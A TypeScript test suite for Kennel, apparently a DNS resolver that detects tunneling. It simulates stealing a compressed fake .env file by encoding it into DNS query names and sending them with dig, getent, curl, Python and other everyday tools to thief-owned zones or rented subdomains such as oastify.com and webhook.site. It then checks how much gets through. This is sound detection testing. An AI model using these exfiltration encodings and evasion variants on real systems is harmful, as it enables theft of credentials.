/**
 * Thefts with everyday tools: a compressed .env file leaves a client namespace as names of many shapes, below zones that the thief owns.
 * What his name server received is decoded again. Through a resolver without detection he gets all of it; through Kennel with the
 * `agent` preset no more than the limits here, below a domain nobody knows and below one that is old and quiet, which is the harder case.
 */
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ORDINARY_ADDRESS, RESOLV_CONF } from '../lab/clients.ts';
import { askForAll, type EverydayTool } from '../lab/everyday-tools.ts';
import { type Kennel, type KennelSettings, startKennelIn } from '../lab/kennel-process.ts';
import { FULL, reportThefts, SEED, type TheftRow } from '../lab/live-report.ts';
import { createLab, INTERNET_ADDRESS, type Lab } from '../lab/namespaces.ts';
import { REGISTRY_OUT_OF_REACH, registeredLongAgo } from '../lab/old-domains.ts';
import { startPlainResolver } from '../lab/plain-resolver.ts';
import { toolPath } from '../lab/required-tools.ts';
import { seededRandom } from '../lab/seeded-random.ts';
import { thiefDomains, thiefReverseZone } from '../lab/thief-domains.ts';
import { ENCODINGS, recovered, type ThiefEncoding, theftNames } from '../lab/thief-encodings.ts';
import { startWorld, type World } from '../lab/tunnels.ts';

/** Most octets that may get out: below one parent nobody knows, over many parents, and by many sessions below one parent. */
const LIMIT = { oneParent: 96, manyParents: 256, manySessions: 128 } as const;
/** Half of the shapes below one parent must stay below this. */
const MEDIAN_LIMIT = 40;

interface Theft {
  readonly tool: EverydayTool;
  readonly encoding: ThiefEncoding;
  readonly parents: number;
  readonly sessions: number;
  readonly limit: number;
  readonly pauseSeconds?: number;
  /** A parent that rents out names to anybody, below which the thief has one; else domains of his own. */
  readonly rentedBelow?: string;
  /** How much is stolen, where it is not PAYLOAD_OCTETS in at most MAX_NAMES names. */
  readonly payloadOctets?: number;
  /** Too slow or too like another for every run. */
  readonly fullOnly?: true;
}

const one = (tool: EverydayTool, encoding: ThiefEncoding, more: Partial<Theft> = {}): Theft => ({
  tool,
  encoding,
  parents: 1,
  sessions: 1,
  limit: LIMIT.oneParent,
  ...more,
});
const spread = (tool: EverydayTool, encoding: ThiefEncoding, parents: number, more: Partial<Theft> = {}): Theft =>
  one(tool, encoding, { parents, limit: LIMIT.manyParents, ...more });
const shared = (tool: EverydayTool, encoding: ThiefEncoding, more: Partial<Theft> = {}): Theft =>
  one(tool, encoding, { sessions: 10, limit: LIMIT.manySessions, ...more });

const E = ENCODINGS;
const full = { fullOnly: true } as const;
const THEFTS: readonly Theft[] = [
  one('dig', E.hex),
  one('dig with nothing fixed', E.hex),
  one('getent', E.shortHex),
  one('nslookup', E.base32, full),
  one('dig', E.base64url),
  one('Python', E.words),
  one('ping', E.octetLabels, full),
  one('Node', E.counters),
  one('curl', E.uuid, full),
  one('busybox nslookup', E.cdn, full),
  one('host', E.dnsbl),
  one('host', E.dkim, full),
  one('dig', E.reverse),
  one('getent', E.longHex, full),
  one('dig', E.shortHex, { pauseSeconds: 1, ...full }),
  spread('Python', E.shortHex, 40, full),
  spread('Node', E.words, 100),
  spread('dig', E.hex, 100, full),
  shared('dig', E.hex),
  shared('getent', E.words, full),
  one('dig', E.hex, { rentedBelow: 'oastify.com' }),
  one('getent', E.shortHex, { rentedBelow: 'duckdns.org', ...full }),
  one('Python', E.words, { rentedBelow: 'webhook.site', ...full }),
  one('dig, an IPv6 address for each query', E.hex, { limit: LIMIT.manySessions }),
  spread('dig, an IPv6 address for each query', E.hex, 40, full),
  // Each session has its own budget over all parents, so only their sum bounds this; the payload is several times that.
  shared('Node', E.hex, { parents: 40, limit: LIMIT.manyParents * 10, payloadOctets: 10_240, ...full }),
].filter(({ fullOnly }) => FULL || !fullOnly);

function scopeOf({ parents, sessions, pauseSeconds, rentedBelow }: Omit<Theft, 'tool' | 'encoding'>): string {
  const parts = [
    parents > 1 && `${parents} parents`,
    sessions > 1 && `${sessions} sessions`,
    rentedBelow && `below ${rentedBelow}`,
    pauseSeconds && 'slowly',
  ];
  return parts.map((part) => (part ? `, ${part}` : '')).join('');
}
const titleOf = (theft: Theft) => `${theft.tool}, ${theft.encoding.name}${scopeOf(theft)}`;

/** Several times what a budget lets through; in the short form less of it, as every name starts a process. */
const MAX_NAMES = FULL ? 160 : 80;
const PAYLOAD_OCTETS = FULL ? 1_024 : 640;

/** A busy machine may lose one answer on the way; a tool that gives up on it leaves that name out. */
const CONTROL_SHARE = 0.95;

const random = seededRandom(SEED);
const payload = stolenFile();
const CONDITIONS = ['plain', 'new', 'old', 'deny'] as const;
/** Zones of its own for each theft and condition: nothing is known below them. */
const zonesOf = new Map<string, readonly string[]>();
const domains = thiefDomains(random, CONDITIONS.length * THEFTS.reduce((sum, { parents }) => sum + parents, 0));
let nextDomain = 0;
for (const condition of CONDITIONS) {
  for (const theft of THEFTS) {
    zonesOf.set(`${condition} ${titleOf(theft)}`, zonesFor(theft));
  }
}

function zonesFor({ encoding, parents, rentedBelow }: Theft): readonly string[] {
  if (encoding === E.reverse) return [thiefReverseZone(random)];
  const own = domains.slice(nextDomain, nextDomain + parents);
  nextDomain += parents;
  return rentedBelow ? own.map((domain) => `${domain.split('.')[0]}.${rentedBelow}`) : own;
}

let lab: Lab;
let world: World;
beforeAll(async () => {
  lab = await createLab();
  lab.setResolvConf('client-a', RESOLV_CONF.plain);
  lab.setResolvConf('client-b', RESOLV_CONF.plain);
  world = await startWorld(lab, SEED + 1, [...zonesOf.values()].flat());
});
afterAll(() => lab?.destroy());

interface Stolen {
  readonly theft: Theft;
  readonly sessions: readonly string[];
  readonly names: readonly string[];
  readonly reached: number;
  readonly octets: number;
  readonly payloadOctets: number;
}

/** One theft from addresses nobody has used before; what the thief has afterwards. */
async function steal(theft: Theft, condition: (typeof CONDITIONS)[number]): Promise<Stolen> {
  const { tool, encoding, pauseSeconds = 0 } = theft;
  const zones = zonesOf.get(`${condition} ${titleOf(theft)}`) ?? [];
  const most = pauseSeconds ? 60 : theft.payloadOctets === undefined ? MAX_NAMES : Number.POSITIVE_INFINITY;
  const count = Math.min(most, Math.ceil((theft.payloadOctets ?? PAYLOAD_OCTETS) / encoding.octets));
  const thefts = theftNames(encoding, payload.subarray(0, count * encoding.octets), zones);
  const names = thefts.map(({ name }) => name);
  const sessions: string[] = [];
  const before = world.ownedQueries().length;
  for (let session = 0; session < theft.sessions; session += 1) {
    sessions.push(lab.becomeAnotherClient('client-a'));
    const share = names.filter((_, index) => index % theft.sessions === session);
    await askForAll(lab, 'client-a', tool, encoding.qtype, share, { pauseSeconds, timeoutMs: 100_000 });
  }
  const arrived = world.ownedQueries().slice(before);
  return {
    theft,
    sessions,
    names,
    reached: arrived.length,
    octets: recovered(
      encoding,
      thefts,
      arrived.map(({ name }) => name),
    ),
    payloadOctets: new Set(names).size * encoding.octets,
  };
}

function rowOf({ theft, names, reached, octets }: Stolen, condition: string, quarantinedAt: number | null): TheftRow {
  const { tool, encoding, limit } = theft;
  return { tool, encoding: encoding.name + scopeOf(theft), condition, tried: names.length, reached, octets, limit, quarantinedAt };
}

describe('through a resolver without detection', () => {
  let stop: () => Promise<void>;
  const rows: TheftRow[] = [];
  beforeAll(async () => {
    stop = await startPlainResolver(lab);
  });
  afterAll(async () => {
    await stop?.();
    reportThefts('Everyday tools through a resolver without detection', rows);
  });

  test.each(THEFTS.filter(({ pauseSeconds }) => !pauseSeconds).map((theft) => [titleOf(theft), theft] as const))(
    '%s: the thief has it',
    async (_title, theft) => {
      const stolen = await steal(theft, 'plain');
      rows.push({ ...rowOf(stolen, 'no detection', null), limit: null });
      const survives = stolen.reached > 0 && stolen.octets >= stolen.payloadOctets * theft.encoding.survivesLowerCase * CONTROL_SHARE;
      expect(survives, `${stolen.octets} of ${stolen.payloadOctets} octets`).toBe(true);
    },
  );
});

const CASES = {
  new: 'a domain nobody knows',
  old: 'a domain registered in 2009',
} as const;

describe.each(Object.entries(CASES) as ['new' | 'old', string][])('through Kennel, below %s', (condition, about) => {
  let kennel: Kennel;
  const stolenSoFar: Stolen[] = [];
  beforeAll(async () => {
    kennel = await startKennelIn(lab, settings(condition === 'old'), registeredLongAgo(condition === 'old' ? domains : []));
  });
  afterAll(async () => {
    if (!kennel) return;
    // Decisions are written in batches off the query path.
    await kennel.kill('SIGTERM');
    const rows = stolenSoFar.map((stolen) => rowOf(stolen, about, firstQuarantine(kennel, stolen.sessions)));
    await kennel.remove();
    reportThefts(`Everyday tools through Kennel, below ${about}`, rows);
  });

  test.each(THEFTS.map((theft) => [titleOf(theft), theft] as const))('%s', async (_title, theft) => {
    const stolen = await steal(theft, condition);
    stolenSoFar.push(stolen);
    expect.soft(stolen.octets, `octets of ${stolen.payloadOctets} by ${stolen.reached} queries`).toBeLessThanOrEqual(theft.limit);
    expect(await neighbourResolves(), 'the neighbour resolves').toBe(true);
  });

  test('half of the shapes below one parent get out no more than the median allows', () => {
    const octets = stolenSoFar
      .filter(({ theft }) => theft.limit === LIMIT.oneParent)
      .map((stolen) => stolen.octets)
      .sort((left, right) => left - right);
    const median = octets[Math.floor(octets.length / 2)] ?? Number.NaN;
    console.log(`median ${median} octets of ${octets.join(', ')}`);
    expect(median).toBeLessThanOrEqual(MEDIAN_LIMIT);
  });

  test('what arrives differs in name and type alone, in lower case, each at most once while it is in the cache', () => {
    const zones = THEFTS.flatMap((theft) => zonesOf.get(`${condition} ${titleOf(theft)}`) ?? []);
    const arrived = world.ownedQueries().filter(({ name }) => zones.some((zone) => name.toLowerCase().endsWith(`.${zone}`)));
    expect(arrived.length).toBeGreaterThan(0);
    expect(arrived.filter(({ name }) => name !== name.toLowerCase())).toEqual([]);
    expect(new Set(arrived.map(({ shape }) => shape)).size).toBe(1);
    const keys = arrived.map(({ name, type }) => `${name} ${type}`);
    expect(keys.filter((key, index) => keys.indexOf(key) !== index)).toEqual([]);
  });
});

describe('through Kennel with default deny', () => {
  let kennel: Kennel;
  const stolenSoFar: Stolen[] = [];
  beforeAll(async () => {
    const allow = [{ section: 'lab', owner: 'lab', reason: 'the theft tests', names: ['**.shop.example', 'ready.example'] }];
    kennel = await startKennelIn(lab, {
      ...settings(false),
      policies: [{ name: 'agents', match: {}, preset: 'agent', default: 'deny', allow }],
    });
  });
  afterAll(async () => {
    await kennel?.remove();
    const rows = stolenSoFar.map((stolen) => ({ ...rowOf(stolen, 'default deny', null), limit: 0 }));
    reportThefts('Everyday tools through Kennel with default deny', rows);
  });

  test.each(
    THEFTS.filter(({ pauseSeconds }, index) => !pauseSeconds && (FULL || index < 4)).map((theft) => [titleOf(theft), theft] as const),
  )('%s: nothing reaches the thief', async (_title, theft) => {
    const stolen = await steal(theft, 'deny');
    stolenSoFar.push(stolen);
    expect(stolen).toMatchObject({ reached: 0, octets: 0 });
    expect(await neighbourResolves(), 'the neighbour resolves').toBe(true);
  });
});

function settings(withAges: boolean): KennelSettings {
  return {
    mode: 'enforce',
    upstreams: [`udp://${INTERNET_ADDRESS}`],
    reputation: withAges ? REGISTRY_OUT_OF_REACH : 'off',
    policies: [{ name: 'agents', match: {}, preset: 'agent', default: 'allow' }],
  };
}

async function neighbourResolves(): Promise<boolean> {
  const found = await lab.run('client-b', [toolPath('getent'), 'ahosts', 'www.shop.example']);
  return found.stdout.includes(ORDINARY_ADDRESS);
}

/** The number, among a session's decisions, of the first that quarantined; the earliest of all the sessions. */
function firstQuarantine(kennel: Kennel, sessions: readonly string[]): number | null {
  const database = new Database(join(kennel.stateFolder, 'decisions.sqlite'), { readonly: true });
  try {
    const select = database.prepare<[string], string>('SELECT verdict FROM decisions WHERE session = ? ORDER BY seq').pluck();
    const numbers = sessions.map((session) => select.all(session).indexOf('quarantine') + 1).filter((number) => number > 0);
    return numbers.length === 0 ? null : Math.min(...numbers);
  } finally {
    database.close();
  }
}

/** The octets of a compressed .env file, long enough for every theft: without compression they would hold less than they count. */
function stolenFile(): Buffer {
  const line = (index: number) =>
    `SERVICE_${index}_${random.pick(['TOKEN', 'SECRET', 'PASSWORD'])}=${random.octets(24).toString('base64')}\n`;
  return gzipSync(Array.from({ length: 400 }, (_, index) => line(index)).join(''));
}
